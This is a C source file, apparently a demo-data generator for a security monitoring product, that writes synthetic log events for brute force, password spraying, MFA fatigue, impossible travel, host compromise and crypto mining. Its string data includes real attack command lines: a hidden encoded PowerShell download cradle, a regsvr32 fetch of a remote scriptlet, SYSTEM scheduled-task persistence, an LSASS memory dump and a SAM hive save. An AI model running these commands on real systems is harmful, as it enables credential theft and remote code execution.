#include <math.h>
#include <stdio.h>

#include "app/demo.h"
#include "app/demo_maker.h"
#include "base/hash.h"

#define MINUTES(n) ((n)*60 * NS_PER_S)
#define EARTH_KM   6371.0
#define FAR_KM     2000.0

/* ---- web ---- */

static const char *const scripts[] = {
    "python-requests/2.31.0",
    "Scrapy/2.11.2 (+https://scrapy.org)",
    "Go-http-client/2.0",
    "curl/8.5.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 "
    "Safari/537.36",
};
static void bot_requests(struct maker *m, const char *ip, const char *path)
{
    struct visit visit = {ip, MAKER_PICK(m, scripts), str_is(str_from(path), "/login") ? "POST" : "GET", path,
                          200};
    unsigned count = 36 + maker_below(m, 20);
    for (unsigned i = 0; i < count; i++) {
        maker_begin_visit(m, maker_time(m, i, count, NS_PER_S), &visit);
        maker_end(m);
    }
}

static void bot_traffic(struct maker *m)
{
    struct text ip = maker_attacker(m);
    bot_requests(m, ip.chars, maker_below(m, 2) ? "/login" : MAKER_PICK(m, demo_pages));
}

static void rate_limit_breach(struct maker *m)
{
    struct text ip = maker_attacker(m), user = maker_user(m);
    struct visit visit = {ip.chars, MAKER_PICK(m, demo_browsers), "GET", "/api/orders", 429};
    unsigned count = 24 + maker_below(m, 60);
    for (unsigned i = 0; i < count; i++) {
        maker_begin_visit(m, maker_time(m, i, count, NS_PER_S / 2), &visit);
        maker_field(m, "user.name", user.chars);
        maker_end(m);
    }
}

/* ---- sign-ins ---- */

static void proxy_network(struct maker *m)
{
    static const char *const kinds[] = {"tor", "vpn", "proxy"};
    struct text user = maker_user(m), ip;
    unsigned count = 4 + maker_below(m, 3), base = maker_below(m, 254), step = 1 + maker_below(m, 40);
    for (unsigned i = 0; i < count; i++) {
        snprintf(ip.chars, sizeof(ip.chars), "198.51.100.%u", 1 + (base + i * step) % 254);
        struct sign_in s = {user.chars, ip.chars, "logged-in", "success"};
        maker_begin_sign_in(m, maker_time(m, i, count, MINUTES(3)), &s);
        buf_printf(m->out, ",\"tags\":[\"%s\"]", MAKER_PICK(m, kinds));
        maker_end(m);
    }
}

static void brute_force(struct maker *m)
{
    struct text user = maker_user(m), ip = maker_attacker(m);
    unsigned count = 12 + maker_below(m, 8);
    for (unsigned i = 0; i < count; i++)
        maker_failed_sign_in(m, maker_time(m, i, count, 9 * NS_PER_S), user.chars, ip.chars);
}

static void password_spray(struct maker *m, const char *ip)
{
    unsigned count = 12 + maker_below(m, 6), first = maker_below(m, COUNT(demo_first_names));
    const char *last = MAKER_PICK(m, demo_last_names);
    for (unsigned i = 0; i < count; i++) {
        struct text user;
        snprintf(user.chars, sizeof(user.chars), "%s.%s",
                 demo_first_names[(first + i) % COUNT(demo_first_names)], last);
        maker_failed_sign_in(m, maker_time(m, i, count, 7 * NS_PER_S), user.chars, ip);
    }
}

static void mfa_fatigue(struct maker *m)
{
    struct text user = maker_user(m), ip = maker_attacker(m);
    struct sign_in s = {user.chars, ip.chars, "system.push.send_factor_verify_push", "failure"};
    unsigned count = 6 + maker_below(m, 5);
    for (unsigned i = 0; i < count; i++) {
        maker_begin_sign_in(m, maker_time(m, i, count, 35 * NS_PER_S), &s);
        maker_end(m);
    }
}

static void anomaly_detection(struct maker *m)
{
    unsigned kind = maker_below(m, 3);
    if (kind == 0)
        brute_force(m);
    else if (kind == 1)
        mfa_fatigue(m);
    else
        password_spray(m, maker_attacker(m).chars);
}

/* ---- places ---- */

static double radians(double degrees)
{
    return degrees * acos(-1) / 180;
}

/* Along the surface (haversine). */
static double distance_km(const struct city *a, const struct city *b)
{
    double rise = sin(radians(b->lat - a->lat) / 2), run = sin(radians(b->lon - a->lon) / 2);
    double h = rise * rise + cos(radians(a->lat)) * cos(radians(b->lat)) * run * run;
    return 2 * EARTH_KM * asin(sqrt(h < 1 ? h : 1));
}

static const struct city *far_from(struct maker *m, const struct city *here)
{
    unsigned first = maker_below(m, COUNT(demo_cities));
    for (unsigned i = 0; i < COUNT(demo_cities); i++) {
        const struct city *city = &demo_cities[(first + i) % COUNT(demo_cities)];
        if (distance_km(here, city) > FAR_KM)
            return city;
    }
    return here; /* the table has a far city for each */
}

/* One person in several places, each too far from the last for the time between. */
static void travel(struct maker *m, unsigned count)
{
    struct stop stops[4] = {{.city = &demo_cities[maker_below(m, CITIES)], .time_ns = m->now_ns}};
    struct text user = maker_user(m);
    for (unsigned i = 1; i < count; i++) {
        const struct city *from = stops[i - 1].city, *city = far_from(m, from);
        double kmh = 3000 + maker_below(m, 9000), hours = distance_km(from, city) / kmh;
        stops[i] = (struct stop){
            .city = city, .from = from, .elapsed_ns = (int64_t)(hours * 3600) * NS_PER_S};
        stops[i].time_ns = m->now_ns;
        for (unsigned k = 0; k < i; k++)
            stops[k].time_ns -= stops[i].elapsed_ns;
    }
    for (unsigned i = 0; i < count; i++) {
        struct text ip = maker_attacker(m);
        struct sign_in s = {user.chars, ip.chars, "logged-in", "success"};
        maker_sign_in_at(m, &s, &stops[i]);
    }
}

static void geo_anomaly(struct maker *m)
{
    travel(m, 2);
}

static void geo_impossible(struct maker *m)
{
    travel(m, 4);
}

/* ---- hosts ---- */

static const struct process encoded_command = {
    POWERSHELL,
    "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    WINWORD};

static void macro_and_run_key(struct maker *m, struct seat seat)
{
    maker_process(m, m->now_ns - 40 * NS_PER_S, seat, &encoded_command);
    maker_begin(m, m->now_ns);
    maker_field(m, "event.category", "registry");
    maker_field(m, "host.name", seat.host);
    maker_field(m, "user.name", seat.user);
    maker_field(m, "process.executable", POWERSHELL);
    maker_field(m, "registry.path",
                "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater");
    maker_field(m, "registry.data.strings", "powershell -w hidden -f C:\\Users\\Public\\updater.ps1");
    maker_end(m);
}

static void malware_found(struct maker *m, struct seat seat)
{
    char hex[65], sample[32];
    snprintf(sample, sizeof(sample), "%016llx", (unsigned long long)maker_draw(m));
    hash_sha256_hex(str_from(sample), hex);
    maker_begin(m, m->now_ns);
    maker_field(m, "event.kind", "alert");
    maker_field(m, "event.category", "malware");
    maker_field(m, "event.action", "detected");
    maker_field(m, "event.outcome", "failure");
    maker_field(m, "host.name", seat.host);
    maker_field(m, "user.name", seat.user);
    maker_field(m, "file.path", "C:\\Users\\Public\\invoice.exe");
    maker_field(m, "file.hash.sha256", hex);
    maker_end(m);
}

static void remote_script(struct maker *m, struct seat seat)
{
    static const struct process regsvr = {SYSTEM32 "regsvr32.exe",
                                          "regsvr32.exe /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll",
                                          SYSTEM32 "cmd.exe"};
    static const struct process task = {
        SYSTEM32 "schtasks.exe",
        "schtasks.exe /create /tn Updater /sc minute /ru SYSTEM /tr C:\\Users\\Public\\updater.exe",
        SYSTEM32 "regsvr32.exe"};
    maker_process(m, m->now_ns - 25 * NS_PER_S, seat, &regsvr);
    maker_process(m, m->now_ns, seat, &task);
}

static void (*const compromises[])(struct maker *, struct seat) = {macro_and_run_key, malware_found,
                                                                   remote_script};

static void device_compromise(struct maker *m)
{
    struct text host = maker_host(m, "ws"), user = maker_user(m);
    compromises[maker_below(m, COUNT(compromises))](m, (struct seat){host.chars, user.chars});
}

void demo_compromise(const struct demo_compromise *c, struct buf *ndjson)
{
    struct maker m = maker_of("compromise", c->seed, c->time_ns, ndjson);
    struct text host = maker_host(&m, "ws"), user = maker_user(&m);
    m.customer = c->customer;
    compromises[c->kind % COUNT(compromises)](&m, (struct seat){host.chars, user.chars});
}

/* From a document to the passwords of everybody who was signed in. */
static void critical_threat(struct maker *m)
{
    static const struct process dump = {
        SYSTEM32 "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.dmp full",
        POWERSHELL};
    static const struct process hives = {SYSTEM32 "reg.exe",
                                         "reg.exe save HKLM\\SAM C:\\Users\\Public\\s.hiv", POWERSHELL};
    struct text host = maker_host(m, "dc"), user = maker_user(m);
    struct seat seat = {host.chars, user.chars};
    maker_process(m, m->now_ns - 90 * NS_PER_S, seat, &encoded_command);
    maker_process(m, m->now_ns - 30 * NS_PER_S, seat, &dump);
    maker_process(m, m->now_ns, seat, &hives);
}

static void crypto_surge(struct maker *m)
{
    static const char *const pools[] = {"xmr-eu1.nanopool.org", "pool.supportxmr.com",
                                        "gulf.moneroocean.stream", "eth.2miners.com"};
    struct text host = maker_host(m, "build");
    const char *pool = MAKER_PICK(m, pools);
    unsigned count = 60 + maker_below(m, 40);
    for (unsigned i = 0; i < count; i++)
        maker_question(m, maker_time(m, i, count, 2 * NS_PER_S), host.chars, pool);
}

static void bot_attack(struct maker *m)
{
    struct text first = maker_attacker(m);
    bot_requests(m, first.chars, "/login");
    password_spray(m, first.chars);
    for (unsigned i = 0; i < 2; i++) {
        struct text next = maker_attacker(m);
        bot_requests(m, next.chars, "/login");
    }
}

/* ---- by name ---- */

struct choice {
    const char *name;
    void (*make)(struct maker *m);
};

static const struct choice types[] = {
    {"bot_traffic", bot_traffic},
    {"proxy_network", proxy_network},
    {"device_compromise", device_compromise},
    {"anomaly_detection", anomaly_detection},
    {"rate_limit_breach", rate_limit_breach},
    {"geo_anomaly", geo_anomaly},
};
static const struct choice scenarios[] = {
    {"crypto_surge", crypto_surge},
    {"bot_attack", bot_attack},
    {"geo_impossible", geo_impossible},
    {"critical_threat", critical_threat},
};

static const struct choice *choice_at(bool is_scenario, size_t i)
{
    if (is_scenario)
        return i < COUNT(scenarios) ? &scenarios[i] : NULL;
    return i < COUNT(types) ? &types[i] : NULL;
}

const char *demo_name(bool is_scenario, size_t i)
{
    const struct choice *choice = choice_at(is_scenario, i);
    return choice ? choice->name : NULL;
}

static int no_such(bool is_scenario, struct err *err)
{
    struct buf names = BUF_EMPTY;
    const char *name;
    for (size_t i = 0; (name = demo_name(is_scenario, i)); i++)
        buf_printf(&names, "%s%s", i ? ", " : "", name);
    err_set(err, ERR_NOT_FOUND, "expected one of %s", names.ptr);
    buf_free(&names);
    return -1;
}

int demo_events(struct str name, bool is_scenario, uint64_t seed, int64_t now_ns, struct buf *ndjson,
                struct err *err)
{
    const struct choice *choice;
    for (size_t i = 0; (choice = choice_at(is_scenario, i)); i++) {
        if (!str_is(name, choice->name))
            continue;
        struct maker m = maker_of(choice->name, seed, now_ns, ndjson);
        choice->make(&m);
        return 0;
    }
    return no_such(is_scenario, err);
}
